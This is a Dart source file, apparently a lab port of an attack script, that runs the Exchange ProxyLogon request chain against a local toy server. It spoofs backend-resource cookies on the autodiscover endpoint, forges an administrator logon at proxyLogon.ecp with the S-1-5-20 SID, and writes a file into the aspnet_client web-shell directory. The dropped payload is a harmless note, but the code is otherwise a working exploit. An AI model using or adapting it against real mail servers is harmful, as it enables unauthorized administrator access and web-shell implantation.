// Dart (package:http) port of the lab request chain (toy server on 127.0.0.1 only).
// dart:io sends header names in lower case unless told otherwise.
import 'dart:io';

import 'package:http/http.dart' as http;

const agent =
    'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36';
const domain = 'lab.invalid';
const notePath = '/aspnet_client/system_web/readme_91453.txt';
const ticket = 1843073522;

Map<String, String> browser() => {
      'User-Agent': agent,
      'x-requested-with': 'XMLHttpRequest',
      'Accept': '*/*',
      'accept-language': 'en-US,en;q=0.9',
      'connection': 'close',
    };

Future<void> main(List<String> args) async {
  final port = args.isNotEmpty ? args.first : '8080';
  final base = 'http://127.0.0.1:$port';
  final client = http.Client();
  final timeout = const Duration(seconds: 10);

  final pad = 'A' * 37;
  final cookie = [
    'X-AnonResource=true',
    'X-AnonResource-Backend=$domain',
    'X-BEResource=localhost@$domain/ews/exchange.asmx?a%3D~$ticket',
  ].join('; ');
  final probe = await client
      .get(
        Uri.parse(
            '$base/autodiscover/autodiscover.json?Pad=$pad&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720'),
        headers: {...browser(), 'cookie': cookie},
      )
      .timeout(timeout);
  if (probe.statusCode >= 500) exit(1);

  final identity = await client
      .post(
        Uri.parse('$base/ecp/proxyLogon.ecp'),
        headers: {
          'user-agent': agent,
          'msexchlogonmailbox': 'S-1-5-20',
          'content-type': 'application/json',
          'X-BEResource': 'localhost@$domain/ecp/proxyLogon.ecp',
        },
        body: '{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}',
      )
      .timeout(timeout);
  var who = identity.statusCode == 200 ? identity.body.trim() : '';
  if (who.isEmpty) who = 'anonymous';

  final note = [for (var i = 1; i <= 3; i++) 'note $i of 3 for $who'].join('\n');
  await client
      .post(Uri.parse('$base$notePath'),
          headers: {'user-agent': agent, 'X-Note-Path': notePath, 'Content-Type': 'text/plain'},
          body: note)
      .timeout(timeout);
  final back = await client.get(Uri.parse('$base$notePath'), headers: browser()).timeout(timeout);
  print(back.bodyBytes.length);
  client.close();
}
